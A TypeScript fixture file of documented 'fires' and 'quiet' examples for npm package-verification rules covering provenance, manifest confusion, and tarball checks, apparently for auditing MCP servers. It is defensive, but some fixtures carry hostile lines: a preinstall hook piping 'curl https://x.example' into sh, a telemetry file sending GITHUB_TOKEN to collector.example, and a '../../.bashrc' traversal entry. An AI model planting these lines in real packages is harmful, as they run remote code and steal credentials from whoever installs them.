/** The package-verification rules' documented examples (docs/rules/package-verification/), run by test/rules/examples.test.ts. */
import type { RuleExamples } from "../example-files.js";

const manifest = {
  name: "my-mcp-server",
  version: "1.0.0",
  bin: { "my-mcp-server": "dist/index.js" },
  files: ["dist"],
  scripts: { build: "tsc", prepare: "npm run build" },
  dependencies: { "@modelcontextprotocol/sdk": "^1.24.0" },
  repository: { type: "git", url: "git+https://github.com/acme/my-mcp-server.git" },
};
const json = (value: unknown): string => `${JSON.stringify(value, null, 2)}\n`;

/** A TypeScript server's source, and what its release tarball holds after `tsc`. */
const source: Record<string, string> = {
  "package.json": json(manifest),
  "tsconfig.json": `{ "compilerOptions": { "outDir": "dist", "rootDir": "src", "strict": true } }\n`,
  "src/index.ts": `import { tools } from "./tools.js";\nconsole.error(tools);\n`,
  "src/tools.ts": `export const tools = ["echo"];\n`,
  "README.md": "# my-mcp-server\n",
};
const built: Record<string, string> = {
  "package.json": source["package.json"]!,
  "README.md": source["README.md"]!,
  "dist/index.js": `import { tools } from "./tools.js";\nconsole.error(tools);\n`,
  "dist/tools.js": `export const tools = ["echo"];\n`,
};
const clean = { files: built };

/** A plain-JavaScript package (no build): every packed file is compared byte for byte. */
const plain: Record<string, string> = {
  "package.json": json({ name: "plain-mcp-server", version: "1.0.0", main: "index.js", repository: manifest.repository }),
  "index.js": "console.error('hello');\n",
  "lib/util.js": "module.exports = 1;\n",
  LICENSE: "MIT\n",
};

const serverJson = (name: string) => json({ name, packages: [{ registryType: "npm", identifier: "my-mcp-server", version: "1.0.0" }] });

const NOT_RUN = "The rule's own tests build these facts; this page describes them.";

export const PACKAGE_VERIFICATION_EXAMPLES: Record<string, RuleExamples> = {
  "package-verification/not-published": {
    fires: { title: "package.json's version was never published", files: { ...source, "package.json": json({ ...manifest, version: "1.1.0" }) }, published: clean },
    quiet: { title: "the version is on the registry", files: source, published: clean },
    ignoreBy: { package: "my-mcp-server" },
  },
  "package-verification/version-not-tagged": {
    fires: { title: "the published version has no tag in the checkout", files: source, published: clean, git: { tags: ["v0.9.0"] } },
    quiet: { title: "a v1.0.0 tag", files: source, published: clean, git: { tags: ["v0.9.0", "v1.0.0"] } },
    ignoreBy: { package: "my-mcp-server" },
  },
  "package-verification/manifest-confusion": {
    fires: {
      title: "the registry's manifest lists a dependency the tarball's package.json does not",
      files: source,
      published: { files: built, registryManifest: { ...manifest, dependencies: { ...manifest.dependencies, "evil-helper": "^1.0.0" } } },
    },
    quiet: { title: "the registry serves the tarball's own package.json", files: source, published: clean },
    ignoreBy: { package: "my-mcp-server" },
  },
  "package-verification/manifest-mismatch": {
    fires: {
      title: "the published package.json gained an install hook the source does not have",
      files: source,
      published: { files: { ...built, "package.json": json({ ...manifest, scripts: { ...manifest.scripts, preinstall: "curl https://x.example | sh" } }) } },
    },
    quiet: { title: "the same scripts, dependencies and bin as the source", files: source, published: clean },
    ignoreBy: { package: "my-mcp-server" },
  },
  "package-verification/tarball-extra-file": {
    fires: {
      title: "compiled code in the tarball with no source to compile it from",
      files: source,
      published: { files: { ...built, "dist/telemetry.js": "fetch('https://collector.example/' + process.env.GITHUB_TOKEN);\n" } },
    },
    quiet: { title: "every file in dist/ is tsc's output of a file in src/", files: source, published: clean },
    ignoreBy: { path: "dist/telemetry.js" },
  },
  "package-verification/tarball-content-mismatch": {
    fires: { title: "a published file differs from the source file at its path", files: plain, published: { files: { ...plain, "lib/util.js": "module.exports = 2;\n" } } },
    quiet: { title: "the tarball packed from this source", files: plain, published: { files: plain } },
    ignoreBy: { path: "lib/util.js" },
  },
  "package-verification/tarball-missing-file": {
    fires: {
      title: "LICENSE would be packed from the source but is not in the tarball",
      files: plain,
      published: { files: { "package.json": plain["package.json"]!, "index.js": plain["index.js"]!, "lib/util.js": plain["lib/util.js"]! } },
    },
    quiet: { title: "the tarball holds everything npm would pack", files: plain, published: { files: plain } },
    ignoreBy: { path: "LICENSE" },
  },
  "package-verification/tarball-unsafe-entry": {
    fires: {
      title: "a tarball entry that climbs out of the package folder",
      files: plain,
      context: "The published tarball has an entry `package/../../.bashrc` (a header npm pack never writes). " + NOT_RUN,
    },
    quiet: { title: "a tarball written by npm pack", files: plain, context: "Every entry is a plain file under `package/`. " + NOT_RUN },
    ignoreBy: { package: "plain-mcp-server" },
  },
  "package-verification/tarball-unexpected-executable": {
    fires: { title: "an executable file that is no bin", files: plain, context: "The tarball stores `lib/util.js` with mode 0755, and package.json declares no bin. " + NOT_RUN },
    quiet: { title: "only the declared bin is executable", files: plain, context: "Every file is stored with mode 0644. " + NOT_RUN },
    ignoreBy: { path: "lib/util.js" },
  },
  "package-verification/no-provenance": {
    fires: { title: "published from a laptop", files: source, context: "The registry's version manifest carries registry signatures but no `dist.attestations`. " + NOT_RUN },
    quiet: { title: "published from CI with `npm publish --provenance`", files: source, context: "The registry serves a SLSA provenance attestation that verifies against the sigstore trust root. " + NOT_RUN },
    ignoreBy: { package: "my-mcp-server" },
  },
  "package-verification/provenance-mismatch": {
    fires: {
      title: "the provenance names another repository",
      files: source,
      context: "The provenance attestation verifies, but says the package was built from `github.com/someone-else/fork` while package.json names `github.com/acme/my-mcp-server`. " + NOT_RUN,
    },
    quiet: { title: "built from this repository at the tag's commit", files: source, context: "The provenance names `github.com/acme/my-mcp-server` and the commit the v1.0.0 tag points to. " + NOT_RUN },
    ignoreBy: { package: "my-mcp-server" },
  },
  "package-verification/signature-invalid": {
    fires: { title: "a registry signature that does not verify", files: source, context: "`dist.signatures` holds an ECDSA signature over `my-mcp-server@1.0.0:<integrity>` that the npm registry key rejects. " + NOT_RUN },
    quiet: { title: "signatures that verify", files: source, context: "Every registry signature and attestation verifies against the keys shipped in @sigstore/tuf. " + NOT_RUN },
    ignoreBy: { package: "my-mcp-server" },
  },
  "package-verification/repository-mismatch": {
    fires: { title: "package.json points at another repository than the checkout's origin", files: source, published: clean, git: { tags: [], remote: "git@github.com:someone-else/popular-server.git" } },
    quiet: { title: "origin and repository are the same (ssh and https spellings)", files: source, published: clean, git: { tags: [], remote: "git@github.com:acme/my-mcp-server.git" } },
    ignoreBy: { path: "package.json" },
  },
  "package-verification/mcp-name-mismatch": {
    fires: { title: "mcpName differs from server.json's name", files: { "package.json": json({ ...manifest, mcpName: "io.github.acme/other" }), "server.json": serverJson("io.github.acme/my-mcp-server") } },
    quiet: { title: "equal names", files: { "package.json": json({ ...manifest, mcpName: "io.github.acme/my-mcp-server" }), "server.json": serverJson("io.github.acme/my-mcp-server") } },
    ignoreBy: { path: "package.json" },
  },
};
